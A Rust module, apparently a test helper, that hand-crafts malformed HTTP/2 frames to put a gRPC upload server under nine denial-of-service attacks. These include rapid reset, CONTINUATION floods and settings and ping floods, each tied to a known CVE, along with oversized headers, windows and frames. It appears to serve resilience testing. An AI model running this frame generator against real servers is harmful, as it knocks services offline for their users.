//! Frames of HTTP/2 as no library would send them (RFC 9113, RFC 7541).

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The longest that an attack goes on if nobody ends it.
const ATTACK_MAX: Duration = Duration::from_secs(2);
/// Frames written at once.
const AT_ONCE: usize = 64;

/// What somebody may try.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum Attack {
    /// Streams that are opened and reset as fast as can be (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (CVE-2024-27316).
    Continuations,
    /// Headers of a mebibyte.
    LargeHeaders,
    /// Frames without a byte on an open stream.
    EmptyData,
    /// Settings, again and again, whose acknowledgements nobody reads (CVE-2019-9515).
    Settings,
    /// Pings whose answers nobody reads (CVE-2019-9512).
    Pings,
    /// A window of more than 2^31-1 bytes.
    LargeWindow,
    /// A frame of 16 MiB less one byte.
    LargeFrame,
    /// What is no HTTP at all.
    Noise,
}

impl Attack {
    pub(crate) const ALL: [Self; 9] = [
        Self::RapidReset,
        Self::Continuations,
        Self::LargeHeaders,
        Self::EmptyData,
        Self::Settings,
        Self::Pings,
        Self::LargeWindow,
        Self::LargeFrame,
        Self::Noise,
    ];

    /// Attacks until the server ends the connection, `frames` are sent, or it takes no more. Returns the
    /// connection, and how many were sent.
    pub(crate) async fn run(self, server: SocketAddr, frames: usize) -> (TcpStream, usize) {
        let (mut stream, mut sent) = (TcpStream::connect(server).await.unwrap(), 0);
        let attacking = self.send(&mut stream, server, frames, &mut sent);
        // Whoever reads nothing is not read from either, sooner or later.
        let _ended = tokio::time::timeout(ATTACK_MAX, attacking).await;
        (stream, sent)
    }

    async fn send(
        self,
        stream: &mut TcpStream,
        server: SocketAddr,
        frames: usize,
        sent: &mut usize,
    ) -> std::io::Result<()> {
        if self == Self::Noise {
            return stream
                .write_all(b"\x16\x03\x01 nothing that anybody knows\r\n\r\n")
                .await;
        }
        stream
            .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
            .await?;
        stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
        let headers = call(server);
        stream.write_all(&self.first(&headers)).await?;
        while *sent < frames {
            let many = (0..AT_ONCE).map(|number| self.frame(*sent + number, &headers));
            let many = many.collect::<Vec<_>>().concat();
            if many.is_empty() {
                return Ok(());
            }
            stream.write_all(&many).await?;
            *sent += AT_ONCE;
        }
        Ok(())
    }

    /// What it begins with.
    fn first(self, headers: &[u8]) -> Vec<u8> {
        match self {
            Self::Continuations | Self::LargeHeaders => frame(HEADERS, 0, 1, headers),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, headers),
            Self::LargeWindow => {
                let update = frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffff_u32.to_be_bytes());
                [update.clone(), update].concat()
            }
            Self::LargeFrame => vec![0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1],
            Self::RapidReset | Self::Settings | Self::Pings | Self::Noise => Vec::new(),
        }
    }

    /// What it goes on with.
    fn frame(self, number: usize, headers: &[u8]) -> Vec<u8> {
        let stream = u32::try_from(number * 2 + 1).unwrap() & 0x7fff_ffff;
        match self {
            Self::RapidReset => {
                let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, headers);
                [open, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
            }
            Self::Continuations => frame(CONTINUATION, 0, 1, &header("x", &"y".repeat(100))),
            Self::LargeHeaders => match number {
                0..70 => frame(
                    CONTINUATION,
                    0,
                    1,
                    &header("x", &"y".repeat(126)).repeat(120),
                ),
                _ => frame(CONTINUATION, END_HEADERS, 1, &[]),
            },
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
            Self::Pings => frame(PING, 0, 0, &[7; 8]),
            Self::LargeFrame => vec![0; 1024],
            Self::LargeWindow | Self::Noise => Vec::new(),
        }
    }
}

/// A frame.
pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The headers of a call.
fn call(server: SocketAddr) -> Vec<u8> {
    let authority = server.to_string();
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/sluice.v1.UploadService/UploadDocument"),
        (":authority", &*authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    fields.map(|(name, value)| header(name, value)).concat()
}

/// A literal field that is not indexed (RFC 7541 §6.2.2); texts have up to 126 bytes.
fn header(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| {
        assert!(text.len() < 127);
        [&[u8::try_from(text.len()).unwrap()][..], text.as_bytes()].concat()
    };
    [vec![0], text(name), text(value)].concat()
}
